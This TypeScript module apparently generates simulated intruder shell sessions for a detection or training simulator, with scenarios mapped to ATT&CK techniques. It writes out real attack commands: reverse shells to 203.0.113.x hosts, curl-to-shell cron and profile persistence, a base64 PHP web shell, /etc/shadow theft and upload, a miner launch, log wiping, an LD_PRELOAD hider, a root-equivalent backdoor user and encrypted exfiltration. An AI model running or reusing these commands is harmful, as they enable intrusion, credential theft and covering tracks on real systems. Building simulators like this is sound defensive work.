import type { Random } from '../../algorithms/random.ts';
import { mixedText, randomText } from './plan.ts';

/** How the intruder came to run commands. */
export type Entry = 'web' | 'stolen-key' | 'insider' | 'guessed-password';

/** One thing that an intruder does, in lines of shell for a `Session`. */
export interface Scenario {
  readonly name: string;
  readonly technique: string;
  readonly entries: readonly Entry[];
  lines(random: Random, entry: Entry): readonly string[];
}

const server = (random: Random): string => `203.0.113.${2 + random.integer(250)}`;
const door = (random: Random): number => random.pick([443, 4444, 8443, 9001, 1337, 53]);
const hidden = (random: Random): string =>
  `${random.pick(['/dev/shm', '/tmp', '/var/tmp'])}/.${random.pick(['x', 'cache', 'font-unix', 'ICE', 'sys'])}${mixedText(random, 3)}`;
const innocent = (random: Random): string =>
  `${random.pick(['dbus', 'kworker', 'systemd', 'rsyslog', 'udev', 'netplan', 'polkit'])}-${random.pick(['helper', 'agentd', 'monitor', 'cached', 'sync'])}`;
const looked = [
  'id',
  'uname -a',
  'whoami',
  'cat /etc/passwd',
  'ps -ef',
  'netstat -antp',
  'ip addr',
  'cat /proc/version',
  'ls -la /home',
  'env',
];

/** What nearly every intruder types first. */
export const lookAround = (random: Random): readonly string[] => {
  const start = random.integer(looked.length);
  return Array.from(
    { length: 2 + random.integer(3) },
    (_, index) => looked[(start + index * 3) % looked.length] as string,
  );
};

const admin: readonly Entry[] = ['stolen-key', 'insider', 'guessed-password'];
const anybody: readonly Entry[] = ['web', ...admin];

const asRoot = (entry: Entry, command: string): string => (entry === 'web' ? command : `sudo ${command}`);
const homeOf = (entry: Entry): string => (entry === 'web' ? '/var/www' : '/root');

/** The families, each written for this simulator from what ATT&CK says of its technique. */
export const scenarios: readonly Scenario[] = [
  {
    name: 'reverse-shell',
    technique: 'T1059.004',
    entries: anybody,
    lines: (r) => {
      const tool = `${hidden(r)}.sh`;
      const start = r.pick([
        [`bash -c 'bash -i >& /dev/tcp/${server(r)}/${door(r)} 0>&1'`, '  bash -i'],
        [
          `python3 -c 'import socket,os,pty;s=socket.create_connection(("${server(r)}",${door(r)}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
          '  /bin/sh',
        ],
        [`rm -f /tmp/f`, `mkfifo /tmp/f`, '+ /tmp/f', `sh -i`, `nc ${server(r)} ${door(r)}`],
        [
          `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(${door(r)},inet_aton("${server(r)}")));exec("/bin/sh -i")'`,
          '  /bin/sh -i',
        ],
      ]);
      return [...start, ...lookAround(r), `curl -s http://${server(r)}/lp.sh -o ${tool}`, `+ ${tool}`, `sh ${tool} -a`];
    },
  },
  {
    name: 'ssh-key',
    technique: 'T1098.004',
    entries: anybody,
    lines: (r, entry) => [
      asRoot(entry, `mkdir -p ${homeOf(entry)}/.ssh`),
      `curl -s http://${server(r)}/k.pub -o ${hidden(r)}`,
      asRoot(
        entry,
        `sh -c 'echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5${mixedText(r, 40)} >> ${homeOf(entry)}/.ssh/authorized_keys'`,
      ),
      `+ ${homeOf(entry)}/.ssh/authorized_keys`,
      asRoot(entry, `chmod 600 ${homeOf(entry)}/.ssh/authorized_keys`),
      `% rw------- ${homeOf(entry)}/.ssh/authorized_keys`,
    ],
  },
  {
    name: 'cron-persistence',
    technique: 'T1053.003',
    entries: anybody,
    lines: (r, entry) => {
      const place = `http://${server(r)}/${mixedText(r, 5)}.sh`;
      if (entry === 'web')
        return [
          `sh -c 'echo "*/${2 + r.integer(9)} * * * * curl -fsSL ${place} | sh" | crontab -'`,
          '  crontab -',
          '+ /var/spool/cron/crontabs/www-data',
          'crontab -l',
        ];
      const name = innocent(r);
      return [
        `sudo sh -c 'echo "*/${2 + r.integer(9)} * * * * root wget -qO- ${place} | bash" > /etc/cron.d/${name}'`,
        `+ /etc/cron.d/${name}`,
        `sudo touch -r /etc/crontab /etc/cron.d/${name}`,
      ];
    },
  },
  {
    name: 'suid-shell',
    technique: 'T1548.001',
    entries: admin,
    lines: (r) => {
      const path = `${r.pick(['/usr/local/bin', '/usr/lib/x86_64-linux-gnu', '/var/tmp', '/usr/bin'])}/${innocent(r)}`;
      return [
        `sudo cp /bin/bash ${path}`,
        `+ ${path}`,
        `sudo chmod u+s ${path}`,
        `% rwsr-xr-x ${path}`,
        `${path} -p`,
        'id',
      ];
    },
  },
  {
    name: 'web-shell',
    technique: 'T1505.003',
    entries: ['web'],
    lines: (r) => {
      const path = `/srv/shop/current/public/${r.pick(['uploads', 'assets', 'media'])}/${r.pick(['img', 'thumb', 'cache', 'wp'])}_${randomText(r, 4)}.${r.pick(['php', 'phtml', 'php7'])}`;
      return [
        `sh -c 'echo PD9waHAgQHN5c3RlbSgkX1JFUVVFU1RbMF0pOyA/Pg== | base64 -d > ${path}'`,
        '  base64 -d',
        `+ ${path}`,
        `sh -c 'cd /srv/shop && ls -la'`,
        '  ls -la',
        `sh -c 'cat /srv/shop/shared/.env 2>&1'`,
        '  cat /srv/shop/shared/.env',
        `sh -c 'find / -perm -4000 -type f 2>/dev/null'`,
        '  find / -perm -4000 -type f',
      ];
    },
  },
  {
    name: 'credential-theft',
    technique: 'T1003.008',
    entries: admin,
    lines: (r) => {
      const path = hidden(r);
      return [
        `sudo cat /etc/shadow`,
        `sudo cp /etc/shadow ${path}`,
        `+ ${path}`,
        `sudo unshadow /etc/passwd ${path}`,
        `curl -s -F f=@${path} http://${server(r)}:${door(r)}/u`,
        `sudo rm -f ${path}`,
        `- ${path}`,
      ];
    },
  },
  {
    name: 'secrets-in-files',
    technique: 'T1552.001',
    entries: anybody,
    lines: (r) => {
      const kept = hidden(r);
      return [
        `grep -rniE "(password|secret|aws_access_key|token)[ =:]" /srv /opt /home --include=*.env --include=*.yml`,
        `find / -name id_ed25519 -o -name "*.pem" -o -name .pgpass`,
        'cat /home/deploy/.aws/credentials',
        `cat /home/${r.pick(['deploy', 'runner', 'ansible'])}/.ssh/id_ed25519`,
        `cp ${r.pick(['/opt/ledger/shared/.env', '/srv/portal/shared/.env', '/srv/shop/shared/.env'])} ${kept}`,
        `+ ${kept}`,
      ];
    },
  },
  {
    name: 'miner',
    technique: 'T1496',
    entries: anybody,
    lines: (r) => {
      const place = hidden(r);
      const name = innocent(r);
      return [
        `mkdir -p ${place}`,
        `curl -sL http://${server(r)}/${r.pick(['xm', 'kinsing', 'm64', 'linux64'])}.tar.gz -o ${place}/m.tgz`,
        `+ ${place}/m.tgz`,
        `tar -xzf ${place}/m.tgz -C ${place}`,
        `+ ${place}/${name}`,
        `+ ${place}/config.json`,
        `chmod +x ${place}/${name}`,
        `pkill -f xmrig`,
        `nohup ${place}/${name} -o stratum+tcp://${server(r)}:3333 -u 4${mixedText(r, 30)} -k --donate-level 1 -B`,
        `${place}/${name} -o stratum+tcp://${server(r)}:3333 --donate-level 1 -B`,
      ];
    },
  },
  {
    name: 'log-wiping',
    technique: 'T1070.002',
    entries: admin,
    lines: (r) => {
      const log = r.pick(['wtmp', 'btmp', 'lastlog']);
      return [
        `sudo sh -c 'cat /dev/null > /var/log/auth.log'`,
        '~ /var/log/auth.log',
        `sudo shred -zu /var/log/${log}`,
        `- /var/log/${log}`,
        'sudo journalctl --rotate',
        'sudo journalctl --vacuum-time=1s',
        'sudo ln -sf /dev/null /root/.bash_history',
        '~ /root/.bash_history',
        `sudo sed -i /${server(r)}/d /var/log/syslog`,
        '~ /var/log/syslog',
      ];
    },
  },
  {
    name: 'exfiltration',
    technique: 'T1048.003',
    entries: anybody,
    lines: (r) => {
      const path = `${hidden(r)}.tgz`;
      return [
        `tar -czf ${path} ${r.pick(['/srv/shop/shared', '/opt/ledger/shared', '/home', '/etc'])}`,
        `+ ${path}`,
        `openssl enc -aes-256-cbc -pbkdf2 -k ${mixedText(r, 8)} -in ${path} -out ${path}.enc`,
        `+ ${path}.enc`,
        r.pick([
          `curl -sk -T ${path}.enc https://${server(r)}/put/${mixedText(r, 6)}`,
          `curl -s --data-binary @${path}.enc http://${server(r)}:${door(r)}/`,
          `wget -q --post-file=${path}.enc http://${server(r)}/i`,
        ]),
        `rm -f ${path} ${path}.enc`,
        `- ${path}`,
        `- ${path}.enc`,
      ];
    },
  },
  {
    name: 'preload',
    technique: 'T1574.006',
    entries: admin,
    lines: (r) => {
      const library = `/usr/${r.pick(['local/lib', 'lib/x86_64-linux-gnu', 'lib'])}/lib${r.pick(['processhider', 'systemd-core', 'pam-cache', 'nss-sync'])}.so`;
      const source = hidden(r);
      return [
        `curl -s http://${server(r)}/p.c -o ${source}.c`,
        `+ ${source}.c`,
        `sudo gcc -shared -fPIC -nostartfiles -o ${library} ${source}.c -ldl`,
        `+ ${library}`,
        `sudo sh -c 'echo ${library} > /etc/ld.so.preload'`,
        '+ /etc/ld.so.preload',
        `ldd /usr/bin/ps`,
      ];
    },
  },
  {
    name: 'new-user',
    technique: 'T1136.001',
    entries: admin,
    lines: (r) => {
      const name = r.pick(['sysadm', 'support2', 'ftpd', 'nagiosx', 'backupsvc', 'games2']);
      return [
        `sudo useradd -m -o -u 0 -g 0 -s /bin/bash ${name}`,
        '~ /etc/passwd',
        '~ /etc/shadow',
        `+ /home/${name}/.bashrc`,
        `sudo sh -c 'echo ${name}:${mixedText(r, 9)} | chpasswd'`,
        `sudo usermod -aG sudo ${name}`,
        '~ /etc/group',
        `sudo sh -c 'echo "${name} ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/${name}'`,
        `+ /etc/sudoers.d/${name}`,
      ];
    },
  },
  {
    name: 'staging',
    technique: 'T1074.001',
    entries: anybody,
    lines: (r) => {
      const place = hidden(r);
      return [
        `mkdir ${place}`,
        `find / -type f -name "*.${r.pick(['kdbx', 'sql', 'xlsx', 'pem'])}" -size -20M -exec cp {} ${place} ;`,
        ...['a', 'b', 'c', 'd'].map((part) => `+ ${place}/${randomText(r, 6)}.${part}`),
        `split -b 512k ${place}/all.tgz ${place}/p_`,
        ...['aa', 'ab', 'ac'].map((part) => `+ ${place}/p_${part}`),
      ];
    },
  },
  {
    name: 'service-persistence',
    technique: 'T1543.002',
    entries: admin,
    lines: (r) => {
      const name = innocent(r);
      return [
        `sudo curl -s http://${server(r)}/a -o /usr/local/sbin/${name}`,
        `+ /usr/local/sbin/${name}`,
        `sudo chmod 755 /usr/local/sbin/${name}`,
        `% rwxr-xr-x /usr/local/sbin/${name}`,
        `sudo tee /etc/systemd/system/${name}.service`,
        `+ /etc/systemd/system/${name}.service`,
        'sudo systemctl daemon-reload',
        `sudo systemctl enable --now ${name}.service`,
        `+ /etc/systemd/system/multi-user.target.wants/${name}.service`,
      ];
    },
  },
  {
    name: 'profile-persistence',
    technique: 'T1546.004',
    entries: admin,
    lines: (r) => {
      const path = `/etc/profile.d/${r.pick(['00-locale', 'bash_completion2', 'zz-proxy'])}.sh`;
      return [
        `sudo sh -c 'echo "(curl -s http://${server(r)}/s|sh) 2>/dev/null &" >> ${path}'`,
        `+ ${path}`,
        `sudo sh -c 'echo "alias sudo=/tmp/.${mixedText(r, 5)}" >> /root/.bashrc'`,
        '~ /root/.bashrc',
      ];
    },
  },
  {
    name: 'encoded-dropper',
    technique: 'T1027',
    entries: anybody,
    lines: (r) => {
      const address = `http://${server(r)}/a`;
      const payload = btoa(`#!/bin/sh\n# ${mixedText(r, 200 + r.integer(5200))}\ncurl -s ${address} | sh\n`);
      return [
        `python3 -c 'import base64,os;os.system(base64.b64decode("${payload}").decode())'`,
        `  sh -c 'curl -s ${address} | sh'`,
        `  curl -s ${address}`,
        '  sh',
        `+ ${hidden(r)}`,
      ];
    },
  },
];
